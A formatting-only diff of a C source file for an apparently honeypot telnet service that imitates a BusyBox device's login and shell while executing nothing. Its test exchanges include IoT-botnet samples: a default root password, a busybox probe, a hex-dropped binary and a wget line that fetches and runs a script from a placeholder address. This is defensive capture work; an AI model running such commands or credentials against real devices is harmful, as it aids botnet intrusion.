@@ -11,10 +11,10 @@
 #include "passive/service.h"
 #include "passive/shell/shell.h"
 
-#define USER_MAX 63          /* login keeps no more either */
-#define TRIES_MAX 3          /* login.c: count == 3 exits */
-#define EMPTY_NAMES_MAX 10   /* login.c: EMPTY_USERNAME_COUNT */
-#define LINE_ROOM_FIRST 120  /* most lines fit; longer ones grow on the session's arena */
+#define USER_MAX 63            /* login keeps no more either */
+#define TRIES_MAX 3            /* login.c: count == 3 exits */
+#define EMPTY_NAMES_MAX 10     /* login.c: EMPTY_USERNAME_COUNT */
+#define LINE_ROOM_FIRST 120    /* most lines fit; longer ones grow on the session's arena */
 #define SUBNEGOTIATION_MAX 256 /* beyond this it is data of a peer that speaks no Telnet */
 
 enum { IAC = 255, SE = 240, IP = 244, EC = 247, EL = 248, SB = 250, WILL = 251, DONT = 254 };
@@ -22,13 +22,13 @@ enum { IAC = 255, SE = 240, IP = 244, EC = 247, EL = 248, SB = 250, WILL = 251, 
 enum phase { PHASE_NAME, PHASE_SECRET, PHASE_SHELL };
 
 enum reading { /* where in a command (RFC 854) or escape sequence the input stands */
-	READ_BYTES,
-	READ_COMMAND,
-	READ_OPTION,
-	READ_SUBNEGOTIATION,
-	READ_SUBNEGOTIATION_IAC,
-	READ_ESCAPE,
-	READ_ESCAPE_BRACKET,
+	       READ_BYTES,
+	       READ_COMMAND,
+	       READ_OPTION,
+	       READ_SUBNEGOTIATION,
+	       READ_SUBNEGOTIATION_IAC,
+	       READ_ESCAPE,
+	       READ_ESCAPE_BRACKET,
 };
 
 enum after_delay { AFTER_NOTHING, AFTER_REFUSAL, AFTER_COMMAND };
@@ -70,7 +70,10 @@ static void say_lines(struct session *s, struct bytes b)
 	session_say_bytes(s, (struct bytes){b.at + from, b.len - from});
 }
 
-static void hook_say(void *owner, struct bytes b) { say_lines(((struct telnet *)owner)->session, b); }
+static void hook_say(void *owner, struct bytes b)
+{
+	say_lines(((struct telnet *)owner)->session, b);
+}
 
 static void hook_fetched(void *owner, struct bytes url, struct bytes name, const char *how)
 {
@@ -89,16 +92,23 @@ static void hook_delayed(void *owner, uint32_t delay_ms)
 	session_delay(t->session, delay_ms);
 }
 
-static uint64_t hook_time(void *owner) { return session_time_us(((struct telnet *)owner)->session); }
-static uint64_t hook_random(void *owner) { return session_random(((struct telnet *)owner)->session); }
+static uint64_t hook_time(void *owner)
+{
+	return session_time_us(((struct telnet *)owner)->session);
+}
+static uint64_t hook_random(void *owner)
+{
+	return session_random(((struct telnet *)owner)->session);
+}
 
 static const struct shell_hooks hooks = {hook_say,     hook_fetched, hook_captured,
-					 hook_delayed, hook_time,    hook_random};
+                                         hook_delayed, hook_time,    hook_random};
 
 static void ask_name(struct session *s, struct telnet *t)
 {
 	struct persona_look look;
-	persona_look(persona_of(s), session_device_seed(s), session_local(s), session_time_us(s), &look);
+	persona_look(persona_of(s), session_device_seed(s), session_local(s), session_time_us(s),
+	             &look);
 	session_say(s, "%s login: ", look.hostname);
 	t->phase = PHASE_NAME;
 }
@@ -113,7 +123,8 @@ static enum service_next telnet_open(struct session *s, void *state)
 		char text[1024];
 		struct writer w = writer_of(text, sizeof text);
 		struct persona_look look;
-		persona_look(p, session_device_seed(s), session_local(s), session_time_us(s), &look);
+		persona_look(p, session_device_seed(s), session_local(s), session_time_us(s),
+		             &look);
 		persona_expand(&look, p->login_banner, &w);
 		say_lines(s, writer_bytes(&w));
 	}
@@ -234,7 +245,8 @@ static bool line_add(struct session *s, struct telnet *t, uint8_t c)
 
 static bool echoes(const struct telnet *t)
 {
-	return t->phase != PHASE_SECRET && !(t->phase == PHASE_SHELL && shell_hides_input(&t->shell));
+	return t->phase != PHASE_SECRET &&
+	       !(t->phase == PHASE_SHELL && shell_hides_input(&t->shell));
 }
 
 static void line_erase(struct session *s, struct telnet *t, size_t n)
@@ -385,82 +397,108 @@ static void telnet_close(struct session *s, void *state)
 }
 
 #define GREETING "\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\r\nlocalhost login: "
-#define ASH "\r\n\r\nBusyBox v1.16.1 (2013-03-28 17:12:05 CST) built-in shell (ash)\r\n" \
-	    "Enter 'help' for a list of built-in commands.\r\n\r\n# "
+#define ASH                                                                                        \
+	"\r\n\r\nBusyBox v1.16.1 (2013-03-28 17:12:05 CST) built-in shell (ash)\r\n"               \
+	"Enter 'help' for a list of built-in commands.\r\n\r\n# "
 #define IN "root\r\nxc3511\r\n"
 #define INSIDE GREETING "root\r\nPassword: \r\n" ASH
-#define LOGGED_IN "{\"kind\":\"login.tried\",\"login.user\":\"root\",\"login.secret\":\"xc3511\"," \
-		  "\"login.accepted\":true}\n"
+#define LOGGED_IN                                                                                  \
+	"{\"kind\":\"login.tried\",\"login.user\":\"root\",\"login.secret\":\"xc3511\","           \
+	"\"login.accepted\":true}\n"
 #define COMMAND(line) "{\"kind\":\"command.sent\",\"command.line\":\"" line "\"}\n"
 
 static const struct exchange telnet_exchanges[] = {
-	{"options come first and need no answer", BYTES(""), BYTES(GREETING), ""},
-	{"three tries, then login ends", BYTES("a\r\nb\r\nroot\n\nadmin\r\0x\r\0never read\r\n"),
-	 BYTES(GREETING "a\r\nPassword: \r\nLogin incorrect\r\nlocalhost login: root\r\nPassword: \r\n"
-			"Login incorrect\r\nlocalhost login: admin\r\nPassword: \r\nLogin incorrect\r\n"),
-	 "{\"kind\":\"login.tried\",\"login.user\":\"a\",\"login.secret\":\"b\",\"login.accepted\":false}\n"
-	 "{\"kind\":\"login.tried\",\"login.user\":\"root\",\"login.secret\":\"\",\"login.accepted\":false}\n"
-	 "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.secret\":\"x\",\"login.accepted\":false}\n"},
-	{"a bot finds its shell and its token",
-	 BYTES(IN "enable\r\nsh\r\n/bin/busybox ECCHI\r\nexit\r\nexit\r\n"),
-	 BYTES(INSIDE "enable\r\n-sh: enable: not found\r\n# sh\r\n" ASH
-		      "/bin/busybox ECCHI\r\nECCHI: applet not found\r\n# exit\r\n# exit\r\n"),
-	 LOGGED_IN COMMAND("enable") COMMAND("sh") COMMAND("/bin/busybox ECCHI") COMMAND("exit")
-		 COMMAND("exit")},
-	{"a file comes in as hexadecimal and is kept when it runs",
-	 BYTES(IN "echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/x; chmod 777 /tmp/x; /tmp/x; rm /tmp/x\n"),
-	 BYTES(INSIDE "echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/x; chmod 777 /tmp/x; /tmp/x; rm /tmp/x\r\n# "),
-	 LOGGED_IN COMMAND("echo -ne '\\\\x7f\\\\x45\\\\x4c\\\\x46' > /tmp/x; chmod 777 /tmp/x; /tmp/x; rm /tmp/x")
-	 "{\"kind\":\"file.captured\",\"file.name\":\"/tmp/x\",\"file.size\":4,\"file.how\":\"echo\"}\n"},
-	{"a loader's address is told, and what it fetched runs",
-	 BYTES(IN "cd /tmp && wget -q http://203.0.113.9/a.sh; sh a.sh; echo $?\n"),
-	 BYTES(INSIDE "cd /tmp && wget -q http://203.0.113.9/a.sh; sh a.sh; echo $?\r\n0\r\n# "),
-	 LOGGED_IN COMMAND("cd /tmp && wget -q http://203.0.113.9/a.sh; sh a.sh; echo $?")
-	 "{\"kind\":\"file.captured\",\"file.url\":\"http://203.0.113.9/a.sh\",\"file.name\":\"a.sh\","
-	 "\"file.how\":\"wget\"}\n"},
-	{"options, sub-negotiations and keys between the letters",
-	 BYTES("\xff\xfd\x01\xff\xfc\x1fro\xff\xfa\x1f\0\x50\0\x18\xff\xf0ox\bt\r\0"
-	       "xc\xff\xfa\x18\0vt100\xff\xf0" "3511\r\0echo \x1b[A1x\x7f\xff\xf1" "2\xff\xff\r\0"),
-	 BYTES(GREETING "roox\b \bt\r\nPassword: \r\n" ASH "echo 1x\b \b2\xff\xff\r\n12\xff\xff\r\n# "),
-	 NULL},
-	{"a loop over lines that are still to come",
-	 BYTES(IN "for i in 1 2\ndo echo $i\ndone\nwhile read a\ndo echo [$a]; done < /proc/mounts\n"),
-	 BYTES(INSIDE "for i in 1 2\r\n> do echo $i\r\n> done\r\n1\r\n2\r\n# while read a\r\n"
-		      "> do echo [$a]; done < /proc/mounts\r\n[rootfs / rootfs rw 0 0]\r\n"
-		      "[proc /proc proc rw 0 0]\r\n# "),
-	 NULL},
-	{"^C drops a line, ^D on an empty one leaves", BYTES(IN "abc\x03" "ab\x04\x03\x04never"),
-	 BYTES(INSIDE "abc^C\r\n# ab^C\r\n# "), LOGGED_IN},
-	{"a reboot ends the connection", BYTES(IN "reboot; echo no\r\necho no\r\n"),
-	 BYTES(INSIDE "reboot; echo no\r\n"), NULL},
-	{0},
+        {"options come first and need no answer", BYTES(""), BYTES(GREETING), ""},
+        {"three tries, then login ends", BYTES("a\r\nb\r\nroot\n\nadmin\r\0x\r\0never read\r\n"),
+         BYTES(GREETING
+               "a\r\nPassword: \r\nLogin incorrect\r\nlocalhost login: root\r\nPassword: \r\n"
+               "Login incorrect\r\nlocalhost login: admin\r\nPassword: \r\nLogin incorrect\r\n"),
+         "{\"kind\":\"login.tried\",\"login.user\":\"a\",\"login.secret\":\"b\",\"login.accepted\":"
+         "false}\n"
+         "{\"kind\":\"login.tried\",\"login.user\":\"root\",\"login.secret\":\"\",\"login."
+         "accepted\":false}\n"
+         "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.secret\":\"x\",\"login."
+         "accepted\":false}\n"},
+        {"a bot finds its shell and its token",
+         BYTES(IN "enable\r\nsh\r\n/bin/busybox ECCHI\r\nexit\r\nexit\r\n"),
+         BYTES(INSIDE "enable\r\n-sh: enable: not found\r\n# sh\r\n" ASH
+                      "/bin/busybox ECCHI\r\nECCHI: applet not found\r\n# exit\r\n# exit\r\n"),
+         LOGGED_IN COMMAND("enable") COMMAND("sh") COMMAND("/bin/busybox ECCHI") COMMAND("exit")
+                 COMMAND("exit")},
+        {"a file comes in as hexadecimal and is kept when it runs",
+         BYTES(IN
+               "echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/x; chmod 777 /tmp/x; /tmp/x; rm /tmp/x\n"),
+         BYTES(INSIDE "echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/x; chmod 777 /tmp/x; /tmp/x; rm "
+                      "/tmp/x\r\n# "),
+         LOGGED_IN COMMAND("echo -ne '\\\\x7f\\\\x45\\\\x4c\\\\x46' > /tmp/x; chmod 777 /tmp/x; "
+                           "/tmp/x; rm /tmp/x") "{\"kind\":\"file.captured\",\"file.name\":\"/tmp/"
+                                                "x\",\"file.size\":4,\"file.how\":\"echo\"}\n"},
+        {"a loader's address is told, and what it fetched runs",
+         BYTES(IN "cd /tmp && wget -q http://203.0.113.9/a.sh; sh a.sh; echo $?\n"),
+         BYTES(INSIDE "cd /tmp && wget -q http://203.0.113.9/a.sh; sh a.sh; echo $?\r\n0\r\n# "),
+         LOGGED_IN COMMAND(
+                 "cd /tmp && wget -q http://203.0.113.9/a.sh; sh a.sh; echo $?") "{\"kind\":\"file."
+                                                                                 "captured\","
+                                                                                 "\"file.url\":"
+                                                                                 "\"http://"
+                                                                                 "203.0.113.9/"
+                                                                                 "a.sh\",\"file."
+                                                                                 "name\":\"a.sh\","
+                                                                                 "\"file.how\":"
+                                                                                 "\"wget\"}\n"},
+        {"options, sub-negotiations and keys between the letters",
+         BYTES("\xff\xfd\x01\xff\xfc\x1fro\xff\xfa\x1f\0\x50\0\x18\xff\xf0ox\bt\r\0"
+               "xc\xff\xfa\x18\0vt100\xff\xf0"
+               "3511\r\0echo \x1b[A1x\x7f\xff\xf1"
+               "2\xff\xff\r\0"),
+         BYTES(GREETING "roox\b \bt\r\nPassword: \r\n" ASH
+                        "echo 1x\b \b2\xff\xff\r\n12\xff\xff\r\n# "),
+         NULL},
+        {"a loop over lines that are still to come",
+         BYTES(IN
+               "for i in 1 2\ndo echo $i\ndone\nwhile read a\ndo echo [$a]; done < /proc/mounts\n"),
+         BYTES(INSIDE "for i in 1 2\r\n> do echo $i\r\n> done\r\n1\r\n2\r\n# while read a\r\n"
+                      "> do echo [$a]; done < /proc/mounts\r\n[rootfs / rootfs rw 0 0]\r\n"
+                      "[proc /proc proc rw 0 0]\r\n# "),
+         NULL},
+        {"^C drops a line, ^D on an empty one leaves",
+         BYTES(IN "abc\x03"
+                  "ab\x04\x03\x04never"),
+         BYTES(INSIDE "abc^C\r\n# ab^C\r\n# "), LOGGED_IN},
+        {"a reboot ends the connection", BYTES(IN "reboot; echo no\r\necho no\r\n"),
+         BYTES(INSIDE "reboot; echo no\r\n"), NULL},
+        {0},
 };
 
 static const struct option telnet_options[] = {
-	{.name = "refusal-delay", .type = OPTION_DURATION,
-	 .offset = offsetof(struct telnet_options, refusal_delay_ms), .fallback = "2s", .min = 1, .max = 10000,
-	 .summary = "time until a failed login is answered; BusyBox takes three seconds"},
-	{0},
+        {.name = "refusal-delay",
+         .type = OPTION_DURATION,
+         .offset = offsetof(struct telnet_options, refusal_delay_ms),
+         .fallback = "2s",
+         .min = 1,
+         .max = 10000,
+         .summary = "time until a failed login is answered; BusyBox takes three seconds"},
+        {0},
 };
 
 static const struct service telnet = {
-	.name = "telnet",
-	.summary = "login and shell of a BusyBox device, nothing of which is executed",
-	.reference = "RFC 854, 855, 857; BusyBox telnetd, login and ash 1.16 to 1.20",
-	.transports = TRANSPORT_TCP,
-	.ports = {23, 2323},
-	.state_size = sizeof(struct telnet),
-	.input_max = 8192,
-	.output_max = 256 * 1024,
-	.arena_max = 384 * 1024,
-	.idle_ms_max = 180 * 1000,
-	.session_ms_max = 900 * 1000,
-	.options = telnet_options,
-	.options_size = sizeof(struct telnet_options),
-	.open = telnet_open,
-	.input = telnet_input,
-	.tick = telnet_tick,
-	.close = telnet_close,
-	.exchanges = telnet_exchanges,
+        .name = "telnet",
+        .summary = "login and shell of a BusyBox device, nothing of which is executed",
+        .reference = "RFC 854, 855, 857; BusyBox telnetd, login and ash 1.16 to 1.20",
+        .transports = TRANSPORT_TCP,
+        .ports = {23, 2323},
+        .state_size = sizeof(struct telnet),
+        .input_max = 8192,
+        .output_max = 256 * 1024,
+        .arena_max = 384 * 1024,
+        .idle_ms_max = 180 * 1000,
+        .session_ms_max = 900 * 1000,
+        .options = telnet_options,
+        .options_size = sizeof(struct telnet_options),
+        .open = telnet_open,
+        .input = telnet_input,
+        .tick = telnet_tick,
+        .close = telnet_close,
+        .exchanges = telnet_exchanges,
 };
 SERVICE(telnet);
